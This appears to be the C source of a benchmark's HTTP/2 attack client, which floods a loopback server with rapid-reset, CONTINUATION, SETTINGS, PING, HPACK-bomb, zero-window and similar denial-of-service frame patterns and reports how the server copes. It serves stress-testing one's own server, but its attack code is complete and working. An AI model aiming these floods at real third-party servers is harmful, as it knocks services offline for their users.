/* The attacker of bench/http2: sends units of one kind, frames or requests, at a given rate over connections in clear. It opens another
   connection for each one that the server closes, and reads and discards what comes.
   usage: http2_attack KIND PORT PATH RATE CONNECTIONS SECONDS
   A RATE is in units a second, a unit being what append_unit() adds. Prints a line of JSON: the units sent, the connections opened, how
   those that the server ended did (the text in GOAWAY, or "closed"), and for slow-stream the requests answered and their latencies. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION, PRIORITY_UPDATE = 16 };
enum { END_STREAM = 1, ACK = 1, END_HEADERS = 4 };
enum { ROOM = 256 << 10, STREAMS = 1 << 12, MAX_CONNECTIONS = 1024, MAX_LATENCIES = 1 << 22, ENDS = 16, HELD_STREAMS = 100 };
/* A frame of the server is at most so long, because it is not allowed more. */
enum { MAX_FRAME = 16384 + 9 };
/* What a client may send on a connection before the server opens the window (RFC 9113, 6.9.2). */
enum { INITIAL_WINDOW = 65535 };

enum kind {
	RAPID_RESET, MADE_YOU_RESET, CONTINUATIONS, SETTINGS_FLOOD, PING_FLOOD, EMPTY_FRAMES, WINDOW_UPDATES, PRIORITY_UPDATES, HPACK_BOMB,
	ZERO_WINDOW, SLOW_STREAM, HALF_UPLOAD, KINDS
};
static const char *const names[KINDS] = {
	"rapid-reset", "made-you-reset", "continuation", "settings", "ping", "empty-frame", "window-update", "priority-update", "hpack-bomb",
	"zero-window", "slow-stream", "half-upload"
};

struct connection {
	int fd;
	unsigned units;       /* units appended since it was opened */
	uint32_t stream;      /* the last stream opened */
	long window;          /* bytes of data that may be sent */
	size_t queued, sent, held;
	uint8_t out[ROOM], in[MAX_FRAME];
	double began[STREAMS];
};

static struct { char name[40]; unsigned long count; } ends[ENDS];
static float *latencies;
static unsigned long units, opened, answered;
static enum kind kind;
static int port;
static const char *path;

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static void put(struct connection *c, const void *bytes, size_t length)
{
	memcpy(c->out + c->queued, bytes, length);
	c->queued += length;
}

static void header(struct connection *c, size_t length, int type, int flags, uint32_t stream)
{
	put(c, (uint8_t[]){ length >> 16, length >> 8, length, type, flags, stream >> 24, stream >> 16, stream >> 8, stream }, 9);
}

static void number(struct connection *c, uint32_t n)
{
	put(c, (uint8_t[]){ n >> 24, n >> 16, n >> 8, n }, 4);
}

/* A request's head without references to the dynamic table (RFC 7541, Appendix A for the indices). */
static size_t block(uint8_t *to, int is_post)
{
	static const char host[] = "attack.test", length[] = "100000";
	uint8_t *at = to;
	*at++ = is_post ? 0x83 : 0x82, *at++ = 0x86;
	*at++ = 0x04, *at++ = strlen(path), at = mempcpy(at, path, strlen(path));
	*at++ = 0x01, *at++ = sizeof host - 1, at = mempcpy(at, host, sizeof host - 1);
	if (is_post)
		*at++ = 0x0f, *at++ = 28 - 15, *at++ = sizeof length - 1, at = mempcpy(at, length, sizeof length - 1);
	return at - to;
}

static void request(struct connection *c, int is_post, int flags)
{
	uint8_t head[512];
	size_t length = block(head, is_post);
	c->stream = c->stream ? c->stream + 2 : 1;
	c->began[c->stream / 2 % STREAMS] = now();
	header(c, length, HEADERS, flags, c->stream);
	put(c, head, length);
}

static void window_update(struct connection *c, uint32_t stream, uint32_t by)
{
	header(c, 4, WINDOW_UPDATE, 0, stream);
	number(c, by);
}

static void reset(struct connection *c)
{
	header(c, 4, RST_STREAM, 0, c->stream);
	number(c, 8);
}

/* Appends a unit; 0 if this connection can take none now. */
static int append_unit(struct connection *c)
{
	static uint8_t zeros[16384];
	const int whole = END_HEADERS | END_STREAM;
	if (ROOM - c->queued < 64 << 10) return 0;
	switch (kind) {
	case RAPID_RESET:
		request(c, 0, whole), reset(c);
		break;
	case MADE_YOU_RESET:
		request(c, 0, whole), window_update(c, c->stream, 0);
		break;
	case CONTINUATIONS:
		if (!c->units) request(c, 0, END_STREAM);
		header(c, 1, CONTINUATION, 0, c->stream), put(c, "\x82", 1);
		break;
	case SETTINGS_FLOOD:
		header(c, 0, SETTINGS, 0, 0);
		break;
	case PING_FLOOD:
		header(c, 8, PING, 0, 0), put(c, zeros, 8);
		break;
	case EMPTY_FRAMES:
		if (!c->units) request(c, 1, END_HEADERS);
		header(c, 0, DATA, 0, c->stream);
		break;
	case WINDOW_UPDATES:
		window_update(c, 0, 1);
		break;
	case PRIORITY_UPDATES:
		header(c, 7, PRIORITY_UPDATE, 0, 0), number(c, 1), put(c, "u=1", 3);
		break;
	case HPACK_BOMB: {
		/* A field of 4000 bytes goes into the table; each further byte repeats it. */
		uint8_t bomb[16384];
		size_t length = block(bomb, 0);
		memcpy(bomb + length, "\x40\x01x\x7f\xa1\x1e", 6), length += 6;
		memset(bomb + length, 'y', 4000), length += 4000;
		memset(bomb + length, 0x80 | 62, 10000), length += 10000;
		c->stream = c->stream ? c->stream + 2 : 1;
		header(c, length, HEADERS, whole, c->stream), put(c, bomb, length);
		break;
	}
	case ZERO_WINDOW:
		if (c->units >= HELD_STREAMS) return 0;
		request(c, 0, whole);
		break;
	case SLOW_STREAM:
		request(c, 0, whole);
		/* The first stream is never given a window. */
		if (c->units) window_update(c, c->stream, 1 << 20);
		break;
	case HALF_UPLOAD:
		if (c->window < 50000) return 0;
		request(c, 1, END_HEADERS);
		for (int left = 50000; left > 0; left -= 16384) {
			size_t length = left < 16384 ? left : 16384;
			header(c, length, DATA, 0, c->stream), put(c, zeros, length);
		}
		c->window -= 50000;
		reset(c);
		break;
	case KINDS:
		abort();
	}
	c->units++, units++;
	return 1;
}

static void open_connection(struct connection *c)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int one = 1;
	c->fd = socket(AF_INET, SOCK_STREAM, 0);
	if (c->fd < 0 || connect(c->fd, (void *)&a, sizeof a)) perror("connect"), exit(1);
	setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
	fcntl(c->fd, F_SETFL, O_NONBLOCK);
	c->units = c->stream = c->queued = c->sent = c->held = 0;
	c->window = INITIAL_WINDOW;
	opened++;
	static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
	put(c, preface, sizeof preface - 1);
	int is_closed = kind == ZERO_WINDOW || kind == SLOW_STREAM;
	header(c, is_closed ? 6 : 0, SETTINGS, 0, 0);
	if (is_closed) put(c, "\0\4\0\0\0\0", 6), window_update(c, 0, 1 << 30);
}

static void note_end(const char *name, size_t length)
{
	for (int i = 0; i < ENDS; i++) {
		if (!ends[i].count) snprintf(ends[i].name, sizeof ends[i].name, "%.*s", (int)length, name);
		if (strlen(ends[i].name) == length && !memcmp(ends[i].name, name, length)) {
			ends[i].count++;
			return;
		}
	}
}

/* Looks at a whole frame. Returns whether the connection ends. */
static int take(struct connection *c, const uint8_t *f, size_t length)
{
	uint32_t stream = (f[5] & 0x7f) << 24 | f[6] << 16 | f[7] << 8 | f[8];
	const uint8_t *payload = f + 9;
	switch (f[3]) {
	case GOAWAY:
		/* Without a text it is the end of an idle or a draining connection. */
		length > 8 ? note_end((const char *)payload + 8, length - 8) : note_end("closed", 6);
		return 1;
	case WINDOW_UPDATE:
		if (!stream) c->window += payload[0] << 24 | payload[1] << 16 | payload[2] << 8 | payload[3];
		break;
	case SETTINGS:
		/* Not inside a header block, which nothing may interrupt. */
		if (!(f[4] & ACK) && kind != CONTINUATIONS && ROOM - c->queued > 9) header(c, 0, SETTINGS, ACK, 0);
		break;
	case HEADERS:
	case DATA:
		if (kind == SLOW_STREAM && f[4] & END_STREAM && answered < MAX_LATENCIES)
			latencies[answered++] = now() - c->began[stream / 2 % STREAMS];
		break;
	}
	return 0;
}

/* Writes and reads what can be. Returns whether the connection has ended. */
static int move(struct connection *c)
{
	ssize_t n;
	while (c->sent < c->queued && (n = send(c->fd, c->out + c->sent, c->queued - c->sent, MSG_NOSIGNAL)) > 0) c->sent += n;
	if (c->sent == c->queued) {
		c->sent = c->queued = 0;
	} else if (c->sent) {
		memmove(c->out, c->out + c->sent, c->queued - c->sent);
		c->queued -= c->sent, c->sent = 0;
	}
	while ((n = recv(c->fd, c->in + c->held, sizeof c->in - c->held, 0)) > 0) {
		size_t at = 0;
		c->held += n;
		while (c->held - at >= 9) {
			size_t length = c->in[at] << 16 | c->in[at + 1] << 8 | c->in[at + 2];
			if (c->held - at < 9 + length) break;
			if (take(c, c->in + at, length)) return 1;
			at += 9 + length;
		}
		memmove(c->in, c->in + at, c->held -= at);
	}
	if (n == 0 || (errno != EAGAIN && errno != EWOULDBLOCK)) {
		note_end("closed", 6);
		return 1;
	}
	return 0;
}

static int by_value(const void *a, const void *b)
{
	float x = *(const float *)a, y = *(const float *)b;
	return (x > y) - (x < y);
}

int main(int argc, char **argv)
{
	if (argc != 7) return fprintf(stderr, "usage: http2_attack KIND PORT PATH RATE CONNECTIONS SECONDS\n"), 2;
	while (kind < KINDS && strcmp(names[kind], argv[1])) kind++;
	port = atoi(argv[2]), path = argv[3];
	double rate = atof(argv[4]), seconds = atof(argv[6]);
	int count = atoi(argv[5]);
	if (kind == KINDS || count < 1 || count > MAX_CONNECTIONS || strlen(path) > 100) return fprintf(stderr, "no such attack\n"), 2;
	struct connection *connections = calloc(count, sizeof *connections);
	latencies = malloc(MAX_LATENCIES * sizeof *latencies);
	if (!connections || !latencies) return perror("malloc"), 1;
	for (int i = 0; i < count; i++) open_connection(connections + i);
	double start = now(), last = start, due = 0;
	for (unsigned turn = 0; last - start < seconds;) {
		double passed = now() - last;
		last += passed, due += rate * passed;
		/* Spread over the connections. What none of them can take is not made up for later. */
		for (int refused = 0; due >= 1 && refused < count; turn++) {
			if (append_unit(connections + turn % count)) due--, refused = 0;
			else refused++;
		}
		if (due > 1) due = 1;
		for (int i = 0; i < count; i++) {
			if (move(connections + i)) close(connections[i].fd), open_connection(connections + i);
		}
		nanosleep(&(struct timespec){ .tv_nsec = 500000 }, NULL);
	}
	qsort(latencies, answered, sizeof *latencies, by_value);
	printf("{\"units\": %lu, \"seconds\": %.3f, \"connections\": %lu, \"answered\": %lu, \"p50_us\": %.0f, \"p99_us\": %.0f, \"ends\": {", units,
		last - start, opened, answered, answered ? latencies[answered / 2] * 1e6 : 0, answered ? latencies[answered * 99 / 100] * 1e6 : 0);
	for (int i = 0; i < ENDS && ends[i].count; i++) printf("%s\"%s\": %lu", i ? ", " : "", ends[i].name, ends[i].count);
	printf("}}\n");
	return 0;
}
